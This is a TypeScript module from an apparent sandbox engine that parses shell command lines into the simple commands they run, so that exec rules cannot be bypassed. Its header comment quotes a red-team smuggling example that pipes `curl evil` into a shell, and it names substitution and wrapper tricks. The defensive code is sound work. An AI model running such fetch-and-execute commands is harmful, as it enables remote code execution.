// Shell command lines → the simple commands they would run. Pure. Exec rules are judged per argv,
// never against the raw string (sandbox.md redteam-65: `allowed && curl evil | sh`, `$(…)`,
// backticks, newlines and env prefixes all smuggle a second command past a string match). Anything
// this lexer cannot read with confidence is an error, and the caller denies it.

const MAX_LENGTH = 65536;
const MAX_DEPTH = 8;

export interface SimpleCommand {
  /** The argv that finally runs, after wrappers such as `env`, `sudo`, `timeout` are peeled off. */
  readonly argv: readonly string[];
  /** The wrapper invocations around it, outermost first (`sudo -u x`, `env A=1`), each a full argv. */
  readonly via: readonly (readonly string[])[];
}

export type CommandLineResult = { readonly commands: SimpleCommand[] } | { readonly error: string };

/** Characters the lexer must look at one by one; every other character is part of a word. */
const SPECIAL = new Uint8Array(128);
for (const ch of ' \t\n;&|()<>\'"\\`$#') SPECIAL[ch.charCodeAt(0)] = 1;
const isSpecial = (code: number): boolean => code < 128 && SPECIAL[code] === 1;

/**
 * Words the shell computes at run time are marked with a prefix no real argument can carry (argv
 * strings end at NUL): DYNAMIC for $X, $(…), `…`, {a,b}, $'…' (it may stand for any number of
 * words), GLOB for an unquoted glob (it stands for names the glob matches).
 */
export const DYNAMIC = '\u0000a';
export const GLOB = '\u0000g';

export function isComputedWord(word: string): boolean {
  return word.charCodeAt(0) === 0;
}

/** The word as written, without its marker. */
export function wordText(word: string): string {
  return isComputedWord(word) ? word.slice(2) : word;
}

/** An argv for people: markers removed. */
export function displayArgv(argv: readonly string[]): string {
  return argv.map(wordText).join(' ');
}

const KEYWORDS_DROPPED = new Set([
  'if',
  'then',
  'else',
  'elif',
  'fi',
  'do',
  'done',
  'while',
  'until',
  '!',
  '{',
  '}',
  'esac',
  'in',
  'coproc',
]);
const KEYWORDS_SKIP_REST = new Set(['for', 'select', 'case']);
const ASSIGNMENT = /^[A-Za-z_][A-Za-z0-9_]*=/;

class Lexer {
  private i = 0;
  private word: string | null = null;
  /** Whether a quote or backslash went into the current word (a quoted heredoc marker disables expansion). */
  private isWordQuoted = false;
  /** Whether the shell computes part of the current word at run time ($X, $(…), {a,b}, $'…'). */
  private isWordExpanded = false;
  /** Whether the current word holds an unquoted glob (`*`, `?`, `[`). */
  private isWordGlob = false;
  private words: string[] = [];
  private redirectPending = false;
  private heredocPending = false;
  private readonly heredocs: { delim: string; stripTabs: boolean; isQuoted: boolean }[] = [];
  readonly commands: string[][] = [];
  readonly nested: string[] = [];

  constructor(private readonly s: string) {}

  run(): string | undefined {
    const s = this.s;
    while (this.i < s.length) {
      const c = s[this.i] ?? '';
      if (c === ' ' || c === '\t') {
        this.endWord();
        this.i++;
      } else if (c === '\n') {
        this.endCommand();
        this.i++;
        const err = this.skipHeredocs();
        if (err) return err;
      } else if (c === '#' && this.word === null) {
        while (this.i < s.length && s[this.i] !== '\n') this.i++;
      } else if (c === ';' || c === '&' || c === '|' || c === '(' || c === ')') {
        if (c === '&' && s[this.i + 1] === '>') {
          this.startRedirect(s[this.i + 2] === '>' ? 3 : 2);
          continue;
        }
        this.endCommand();
        this.i +=
          (c === '&' || c === '|' || c === ';') && s[this.i + 1] === c
            ? 2
            : c === '|' && s[this.i + 1] === '&'
              ? 2
              : 1;
      } else if (c === '<' || c === '>') {
        if ((c === '<' || c === '>') && s[this.i + 1] === '(') {
          const err = this.substitution(this.i + 2);
          if (err) return err;
          continue;
        }
        if (this.word !== null && /^[0-9]+$/.test(this.word)) this.word = null;
        else this.endWord();
        if (c === '<' && s.startsWith('<<<', this.i)) this.startRedirect(3);
        else if (c === '<' && s[this.i + 1] === '<') {
          const stripTabs = s[this.i + 2] === '-';
          this.i += stripTabs ? 3 : 2;
          this.heredocPending = true;
          this.heredocs.push({ delim: '', stripTabs, isQuoted: false });
          this.redirectPending = true;
        } else {
          let n = 1;
          while (n < 3 && /[>&|]/.test(s[this.i + n] ?? '')) n++;
          this.startRedirect(n);
        }
      } else if (c === "'") {
        const end = s.indexOf("'", this.i + 1);
        if (end < 0) return 'the command has an unterminated single quote';
        this.append(s.slice(this.i + 1, end));
        this.isWordQuoted = true;
        this.i = end + 1;
      } else if (c === '"') {
        this.isWordQuoted = true;
        const err = this.doubleQuoted();
        if (err) return err;
      } else if (c === '\\') {
        if (s[this.i + 1] === '\n') this.i += 2;
        else {
          this.append(s[this.i + 1] ?? '');
          this.isWordQuoted = true;
          this.i += 2;
        }
      } else if (c === '`') {
        const err = this.backtick();
        if (err) return err;
      } else if (c === '$' && s[this.i + 1] === '(') {
        if (s[this.i + 2] === '(') {
          const end = s.indexOf('))', this.i + 3);
          if (end < 0) return 'the command has an unterminated $((…))';
          // Arithmetic expands $(…) and backticks inside it before evaluating: those run.
          const err = this.bodySubstitutions(this.i + 3, end);
          if (err) return err;
          this.append(s.slice(this.i, end + 2));
          this.isWordExpanded = true;
          this.i = end + 2;
        } else {
          const err = this.substitution(this.i + 2);
          if (err) return err;
        }
      } else if (c === '$' && (s[this.i + 1] === "'" || s[this.i + 1] === '"')) {
        // $'…' (ANSI-C escapes) and $"…" (translated): computed by the shell.
        const quote = s[this.i + 1] ?? "'";
        let j = this.i + 2;
        while (j < s.length && s[j] !== quote) j += s[j] === '\\' ? 2 : 1;
        if (j >= s.length) return 'the command has an unterminated quote';
        this.append(s.slice(this.i, j + 1));
        this.isWordExpanded = true;
        this.i = j + 1;
      } else {
        // A run of ordinary characters joins the word in one piece.
        let j = this.i + 1;
        while (j < s.length && !isSpecial(s.charCodeAt(j))) j++;
        const run = s.slice(this.i, j);
        if (c === '$' && /^\$[A-Za-z_{@*#?$!0-9-]/.test(run)) this.isWordExpanded = true;
        if (run.includes('{') && /\{[^}]*(,|\.\.)[^}]*\}/.test(run)) this.isWordExpanded = true;
        if (/[*?[]/.test(run)) this.isWordGlob = true;
        this.append(run);
        this.i = j;
      }
    }
    this.endCommand();
    if (this.heredocs.length > 0) return 'the command has a here-document with no end marker';
    return undefined;
  }

  private append(text: string): void {
    this.word = (this.word ?? '') + text;
  }

  private startRedirect(length: number): void {
    this.endWord();
    this.i += length;
    this.redirectPending = true;
  }

  private endWord(): void {
    if (this.word === null) return;
    if (this.redirectPending) {
      // The word after a redirection is its target, not an argument.
      if (this.heredocPending) {
        const last = this.heredocs[this.heredocs.length - 1];
        if (last) {
          last.delim = this.word;
          last.isQuoted = this.isWordQuoted;
        }
        this.heredocPending = false;
      }
      this.redirectPending = false;
    } else {
      this.words.push(
        this.isWordExpanded ? `${DYNAMIC}${this.word}` : this.isWordGlob ? `${GLOB}${this.word}` : this.word,
      );
    }
    this.word = null;
    this.isWordQuoted = false;
    this.isWordExpanded = false;
    this.isWordGlob = false;
  }

  private endCommand(): void {
    this.endWord();
    if (this.words.length > 0) this.commands.push(this.words);
    this.words = [];
    this.redirectPending = false;
  }

  private skipHeredocs(): string | undefined {
    while (this.heredocs.length > 0) {
      const doc = this.heredocs.shift();
      if (!doc) break;
      const bodyStart = this.i;
      let bodyEnd: number;
      for (;;) {
        if (this.i >= this.s.length) return 'the command has a here-document with no end marker';
        const nl = this.s.indexOf('\n', this.i);
        const lineEnd = nl < 0 ? this.s.length : nl;
        const line = this.s.slice(this.i, lineEnd);
        if ((doc.stripTabs ? line.replace(/^\t+/, '') : line) === doc.delim) {
          bodyEnd = this.i;
          this.i = nl < 0 ? this.s.length : nl + 1;
          break;
        }
        this.i = nl < 0 ? this.s.length : nl + 1;
      }
      // With an unquoted marker the shell expands $(…) and `…` inside the body: they run.
      if (!doc.isQuoted) {
        const err = this.bodySubstitutions(bodyStart, bodyEnd);
        if (err) return err;
      }
    }
    return undefined;
  }

  private bodySubstitutions(from: number, to: number): string | undefined {
    for (let j = from; j < to; j++) {
      const c = this.s[j];
      if (c === '\\') j++;
      else if (c === '$' && this.s[j + 1] === '(' && this.s[j + 2] !== '(') {
        const close = this.findClose(j + 2);
        if (close < 0 || close >= to)
          return 'the command has an unterminated $(…) substitution in a here-document';
        this.nested.push(this.s.slice(j + 2, close));
        j = close;
      } else if (c === '`') {
        const close = this.s.indexOf('`', j + 1);
        if (close < 0 || close >= to)
          return 'the command has an unterminated backtick substitution in a here-document';
        this.nested.push(this.s.slice(j + 1, close));
        j = close;
      }
    }
    return undefined;
  }

  private doubleQuoted(): string | undefined {
    const s = this.s;
    this.i++;
    let text = '';
    while (this.i < s.length && s[this.i] !== '"') {
      const c = s[this.i] ?? '';
      if (c === '\\' && /["\\$`\n]/.test(s[this.i + 1] ?? '')) {
        if (s[this.i + 1] !== '\n') text += s[this.i + 1];
        this.i += 2;
      } else if (c === '$' && /[A-Za-z_{@*#?$!0-9-]/.test(s[this.i + 1] ?? '')) {
        this.isWordExpanded = true;
        text += c;
        this.i++;
      } else if (c === '`' || (c === '$' && s[this.i + 1] === '(' && s[this.i + 2] !== '(')) {
        this.append(text);
        text = '';
        const err = c === '`' ? this.backtick() : this.substitution(this.i + 2);
        if (err) return err;
      } else {
        text += c;
        this.i++;
      }
    }
    if (this.i >= s.length) return 'the command has an unterminated double quote';
    this.append(text);
    this.i++;
    return undefined;
  }

  private backtick(): string | undefined {
    let j = this.i + 1;
    let inner = '';
    while (j < this.s.length && this.s[j] !== '`') {
      if (this.s[j] === '\\' && j + 1 < this.s.length) {
        inner += this.s[j + 1];
        j += 2;
      } else inner += this.s[j++];
    }
    if (j >= this.s.length) return 'the command has an unterminated backtick substitution';
    this.nested.push(inner);
    this.append('`…`');
    this.isWordExpanded = true;
    this.i = j + 1;
    return undefined;
  }

  /** The index of the `)` closing a substitution opened just before `start`, skipping quotes; -1 if none. */
  private findClose(start: number): number {
    let depth = 1;
    let j = start;
    const s = this.s;
    while (j < s.length) {
      const c = s[j];
      if (c === "'") {
        const end = s.indexOf("'", j + 1);
        if (end < 0) return -1;
        j = end + 1;
        continue;
      }
      if (c === '\\') {
        j += 2;
        continue;
      }
      if (c === '(') depth++;
      if (c === ')' && --depth === 0) return j;
      j++;
    }
    return -1;
  }

  /** `$(…)`, `<(…)`, `>(…)`: queues the inside as commands of their own. */
  private substitution(start: number): string | undefined {
    const close = this.findClose(start);
    if (close < 0) return 'the command has an unterminated $(…) substitution';
    this.nested.push(this.s.slice(start, close));
    this.append('$(…)');
    this.isWordExpanded = true;
    this.i = close + 1;
    return undefined;
  }
}

/** Drops leading `A=B` assignments and shell keywords; undefined when nothing runs. */
function commandWords(words: readonly string[]): string[] | undefined {
  let k = 0;
  for (;;) {
    const w = words[k];
    if (w === undefined) return undefined;
    if (KEYWORDS_SKIP_REST.has(w)) return undefined;
    // `function f { …; }` and `function f() …`: the name is not a command, the body is.
    if (w === 'function') {
      k += 2;
      continue;
    }
    if (KEYWORDS_DROPPED.has(w) || ASSIGNMENT.test(wordText(w))) k++;
    else break;
  }
  return k === 0 ? (words as string[]) : words.slice(k);
}

const SHELLS = new Set(['sh', 'bash', 'zsh', 'dash', 'ksh', 'mksh', 'ash', 'busybox']);

/** Wrappers that change privilege: the engine requires them to be allowed in their own right. */
export const PRIVILEGE_WRAPPERS: ReadonlySet<string> = new Set(['sudo', 'doas', 'su', 'runuser', 'pkexec']);

export function basename(word: string): string {
  const slash = word.lastIndexOf('/');
  return slash >= 0 ? word.slice(slash + 1) : word;
}

/** One layer of wrapper: the command it runs (and, for `find`, any further ones), or a shell string it evaluates. */
type Unwrapped = { inner: string[]; also?: string[][] } | { shell: string } | undefined;

/**
 * Skips options, where `withValue` lists the ones that take a value: `-u root`, `--user root`,
 * `--user=root`, and short bundles (`-iu root`, `-uroot`), where the first value-taking letter
 * takes the rest of the word or, at its end, the next word.
 */
function afterOptions(argv: readonly string[], from: number, withValue: ReadonlySet<string>): number {
  let k = from;
  while (k < argv.length) {
    const w = argv[k] ?? '';
    if (w === '--') return k + 1;
    if (!w.startsWith('-') || w === '-') break;
    if (w.startsWith('--')) {
      k += withValue.has(w) ? 2 : 1;
      continue;
    }
    let step = 1;
    for (let j = 1; j < w.length; j++) {
      if (withValue.has(`-${w[j] ?? ''}`)) {
        if (j === w.length - 1) step = 2;
        break;
      }
    }
    k += step;
  }
  return k;
}

const NONE = new Set<string>();
const SUDO_VALUE = new Set([
  '-u',
  '-g',
  '-h',
  '-p',
  '-C',
  '-D',
  '-r',
  '-t',
  '-U',
  '-T',
  '--user',
  '--group',
  '--host',
  '--prompt',
  '--chdir',
  '--role',
  '--type',
  '--other-user',
  '--close-from',
  '--command-timeout',
]);
const ENV_VALUE = new Set(['-u', '-C', '--unset', '--chdir']);
const NICE_VALUE = new Set(['-n', '--adjustment']);
const TIMEOUT_VALUE = new Set(['-s', '-k', '--signal', '--kill-after']);
const XARGS_VALUE = new Set([
  '-a',
  '-d',
  '-E',
  '-I',
  '-L',
  '-n',
  '-P',
  '-s',
  '--arg-file',
  '--delimiter',
  '--max-args',
  '--max-procs',
  '--max-lines',
  '--max-chars',
  '--replace',
  '--eof',
]);
const IONICE_VALUE = new Set(['-c', '-n', '-p', '-P', '-u', '--class', '--classdata']);
const WATCH_VALUE = new Set(['-n', '--interval', '-d']);
const STDBUF_VALUE = new Set(['-i', '-o', '-e', '--input', '--output', '--error']);
const EXEC_VALUE = new Set(['-a']);
const TIME_VALUE = new Set(['-f', '-o', '--format', '--output']);
const PKEXEC_VALUE = new Set(['-u', '--user']);
const CHROOT_VALUE = new Set(['--userspec', '--groups']);
const NS_VALUE = new Set(['-t', '--target', '-S', '--setuid', '-G', '--setgid', '--wd', '-w']);
const SU_VALUE = new Set(['-u', '-g', '-G', '-s', '--shell', '--group', '--supp-group', '--user']);

/** `env -S STRING`, `-SSTRING`, `--split-string=STRING`: the string is split into a command line. */
function envSplitString(argv: readonly string[]): string | undefined {
  for (let k = 1; k < argv.length; k++) {
    const w = argv[k] ?? '';
    if (!w.startsWith('-') || w === '--') return undefined;
    const rest = argv.slice(k + 1);
    if (w === '--split-string') return [argv[k + 1] ?? '', ...rest.slice(1)].join(' ');
    if (w.startsWith('--split-string=')) return [w.slice('--split-string='.length), ...rest].join(' ');
    if (w.startsWith('--')) continue;
    const at = w.indexOf('S');
    if (at > 0)
      return at === w.length - 1
        ? [argv[k + 1] ?? '', ...rest.slice(1)].join(' ')
        : [w.slice(at + 1), ...rest].join(' ');
    if (ENV_VALUE.has(w)) k++;
  }
  return undefined;
}

function unwrapOnce(argv: readonly string[]): Unwrapped {
  const name = basename(argv[0] ?? '');
  const rest = (k: number): Unwrapped => (k < argv.length ? { inner: argv.slice(k) } : undefined);
  switch (name) {
    case 'env': {
      const split = envSplitString(argv);
      if (split !== undefined) return { shell: split };
      let k = afterOptions(argv, 1, ENV_VALUE);
      while (k < argv.length && ASSIGNMENT.test(wordText(argv[k] ?? ''))) k++;
      return rest(k);
    }
    case 'sudo':
    case 'doas':
      return rest(afterOptions(argv, 1, SUDO_VALUE));
    case 'nohup':
    case 'builtin':
      return rest(1);
    case 'pkexec':
      return rest(afterOptions(argv, 1, PKEXEC_VALUE));
    case 'setsid':
      return rest(afterOptions(argv, 1, NONE));
    case 'chroot':
      // chroot [options] NEWROOT [COMMAND…]: without a command it runs a shell.
      return rest(afterOptions(argv, 1, CHROOT_VALUE) + 1);
    case 'unshare':
    case 'nsenter':
      return rest(afterOptions(argv, 1, NS_VALUE));
    case 'su':
    case 'runuser': {
      // su [options] [user] -c COMMAND: the command is a shell string.
      const c = argv.findIndex((w, k) => k > 0 && (w === '-c' || w === '--command'));
      if (c > 0 && argv[c + 1] !== undefined) return { shell: argv[c + 1] ?? '' };
      const long = argv.find((w) => w.startsWith('--command='));
      if (long !== undefined) return { shell: long.slice('--command='.length) };
      // runuser -u USER [--] COMMAND…: the command follows the options.
      if (name === 'runuser' && argv.some((w) => w === '-u' || w === '--user' || w.startsWith('--user='))) {
        return rest(afterOptions(argv, 1, SU_VALUE));
      }
      return undefined;
    }
    case 'busybox':
      // `busybox rm …` runs the applet; `busybox sh -c …` is handled with the shells below.
      if (argv[1] !== undefined && !SHELLS.has(argv[1])) return rest(1);
      break;
    case 'command':
      return rest(afterOptions(argv, 1, NONE));
    case 'exec':
      return rest(afterOptions(argv, 1, EXEC_VALUE));
    case 'time':
      return rest(afterOptions(argv, 1, TIME_VALUE));
    case 'nice':
      return rest(afterOptions(argv, 1, NICE_VALUE));
    case 'ionice':
      return rest(afterOptions(argv, 1, IONICE_VALUE));
    case 'stdbuf':
      return rest(afterOptions(argv, 1, STDBUF_VALUE));
    case 'timeout':
      return rest(afterOptions(argv, 1, TIMEOUT_VALUE) + 1);
    case 'xargs':
      return rest(afterOptions(argv, 1, XARGS_VALUE));
    case 'watch':
      return rest(afterOptions(argv, 1, WATCH_VALUE));
    case 'eval':
      return argv.length > 1 ? { shell: argv.slice(1).join(' ') } : undefined;
    default:
      break;
  }
  if (SHELLS.has(name)) {
    const c = argv.findIndex((w, k) => k > 0 && /^-[a-zA-Z]*c[a-zA-Z]*$/.test(w));
    if (c > 0 && argv[c + 1] !== undefined) return { shell: argv[c + 1] ?? '' };
  }
  if (name === 'find') {
    // Every -exec/-execdir/-ok/-okdir runs its own command, up to ";" or "+".
    const found: string[][] = [];
    for (let k = 1; k < argv.length; k++) {
      const w = argv[k];
      if (w !== '-exec' && w !== '-execdir' && w !== '-ok' && w !== '-okdir') continue;
      let end = k + 1;
      while (end < argv.length && argv[end] !== ';' && argv[end] !== '+') end++;
      if (end > k + 1) found.push(argv.slice(k + 1, end));
      k = end;
    }
    const [first, ...more] = found;
    if (first) return { inner: first, ...(more.length > 0 ? { also: more } : {}) };
  }
  return undefined;
}

function readsCommandsFromStdin(argv: readonly string[]): boolean {
  const name = basename(wordText(argv[0] ?? ''));
  if (!SHELLS.has(name) || name === 'busybox') return false;
  const operands = argv.slice(1).filter((w) => !w.startsWith('-') && !w.startsWith('+'));
  return operands.length === 0 || argv.includes('-s');
}

function expand(
  words: readonly string[],
  depth: number,
  out: SimpleCommand[],
  via: readonly (readonly string[])[] = [],
): string | undefined {
  if (via.length > 16) return 'the command nests wrappers too deeply';
  const argv = commandWords(words);
  if (argv === undefined) return undefined;
  const next = unwrapOnce(argv);
  const inners =
    next === undefined || 'shell' in next
      ? []
      : [next.inner, ...(next.also ?? [])].filter((w) => commandWords(w) !== undefined);
  if (next === undefined || (!('shell' in next) && inners.length === 0)) {
    // Not a wrapper, or a wrapper with nothing to run (`env A=1` prints the environment).
    out.push({ argv, via });
    // A shell with no -c and no script reads its commands from stdin (`curl … | sh`,
    // `bash <<< "…"`): they cannot be checked, so they count as a computed command.
    if (readsCommandsFromStdin(argv))
      out.push({ argv: [`${DYNAMIC}<commands read from stdin>`], via: [...via, argv] });
    return undefined;
  }
  const layers = [...via, argv];
  if ('shell' in next) {
    // The string is read again as a command line, which marks its computed words afresh.
    const nested = parse(next.shell.split(DYNAMIC).join('').split(GLOB).join(''), depth + 1);
    if ('error' in nested) return nested.error;
    for (const cmd of nested.commands) out.push({ argv: cmd.argv, via: [...layers, ...cmd.via] });
    return undefined;
  }
  for (const inner of inners) {
    const err = expand(inner, depth, out, layers);
    if (err) return err;
  }
  return undefined;
}

function parse(text: string, depth: number): CommandLineResult {
  if (depth > MAX_DEPTH) return { error: 'the command nests shells or substitutions too deeply' };
  if (text.length > MAX_LENGTH) return { error: 'the command is longer than 64 KiB' };
  if (text.includes('\0')) return { error: 'the command contains a NUL character' };
  const lexer = new Lexer(text);
  const err = lexer.run();
  if (err) return { error: err };
  const out: SimpleCommand[] = [];
  for (const words of lexer.commands) {
    const e = expand(words, depth, out);
    if (e) return { error: e };
  }
  for (const inner of lexer.nested) {
    const nested = parse(inner, depth + 1);
    if ('error' in nested) return nested;
    out.push(...nested.commands);
  }
  return { commands: out };
}

/** Every simple command a shell command line would run, including inside substitutions. */
export function parseCommandLine(text: string): CommandLineResult {
  return parse(text, 0);
}

/** The simple commands an exec of `argv` runs (wrappers and `sh -c` peeled off). */
export function commandsOfArgv(argv: readonly string[]): CommandLineResult {
  if (argv.length === 0) return { error: 'the command is empty' };
  if (argv.some((w) => w.includes('\0'))) return { error: 'the command contains a NUL character' };
  const out: SimpleCommand[] = [];
  const err = expand(argv, 0, out);
  return err ? { error: err } : { commands: out };
}
